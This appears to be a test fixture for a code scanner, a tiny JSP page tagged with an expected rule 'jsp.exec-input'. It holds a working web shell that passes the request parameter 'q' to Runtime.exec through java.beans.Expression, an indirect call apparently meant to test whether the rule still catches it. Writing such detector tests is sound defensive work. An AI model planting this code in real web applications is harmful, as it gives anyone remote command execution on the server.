<%-- expect rule=jsp.exec-input min=85 --%>
<%
    java.beans.Expression ex = new java.beans.Expression(Runtime.getRuntime(), "exec", new Object[]{request.getParameter("q")});
    ex.getValue();
%>
